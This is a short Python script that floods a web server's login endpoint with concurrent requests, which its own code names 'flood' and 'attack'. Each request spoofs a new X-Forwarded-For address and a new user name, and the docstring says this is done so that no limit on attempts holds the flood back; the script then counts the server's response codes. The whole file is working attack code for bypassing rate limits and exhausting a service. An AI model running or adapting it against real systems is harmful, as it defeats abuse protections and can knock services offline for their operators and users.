"""Log-ins without a pause: a server's address and a number of connections in, counts of its answers on stdout out.

Every attempt comes from a new address (as a proxy on this machine would tell it) and gives a new name, so that no limit
on attempts holds it back: what is left is the work itself. Runs until its stdin is closed.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import sys
from collections import Counter
from collections.abc import Coroutine, Iterable
from ipaddress import IPv4Address
from typing import Any
from urllib.parse import urlsplit

FIRST_ADDRESS = int(IPv4Address("10.0.0.1"))


async def flood(url: str, connections: int) -> Counter[str]:
    """Count the answers by status until stdin ends."""
    parts, numbers, counts = urlsplit(url), itertools.count(), Counter[str]()

    async def attack() -> None:
        reader, writer = await asyncio.open_connection(parts.hostname, parts.port)
        while True:
            writer.write(attempt(parts.netloc, next(numbers)))
            counts[await answer(reader)] += 1

    await until_stdin_ends([attack() for _ in range(connections)])
    return counts


async def until_stdin_ends(attacks: Iterable[Coroutine[Any, Any, None]]) -> None:
    """Run attacks side by side until whoever started this program closes its stdin; one that gives up is an error."""
    attackers = [asyncio.create_task(attack) for attack in attacks]
    stopped = asyncio.create_task(asyncio.to_thread(sys.stdin.read))
    done, _ = await asyncio.wait([stopped, *attackers], return_when=asyncio.FIRST_COMPLETED)
    for task in attackers:
        task.cancel()
    for task in done - {stopped}:
        task.result()


def attempt(host: str, number: int) -> bytes:
    """One log-in as the page sends it."""
    body = json.dumps({"name": f"nobody {number}", "password": "correct horse battery", "remember": False}).encode()
    head = (
        f"POST /api/session HTTP/1.1\r\nHost: {host}\r\nSec-Fetch-Site: same-origin\r\n"
        f"X-Forwarded-For: {IPv4Address(FIRST_ADDRESS + number)}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    )
    return head.encode() + body


async def answer(reader: asyncio.StreamReader) -> str:
    """Read one answer to its end and return its status."""
    head = (await reader.readuntil(b"\r\n\r\n")).decode("latin-1").lower()
    await reader.readexactly(int(head.split("content-length: ")[1].split("\r\n")[0]))
    return head.split(" ", 2)[1]


if __name__ == "__main__":
    print(json.dumps(asyncio.run(flood(sys.argv[1], int(sys.argv[2])))))
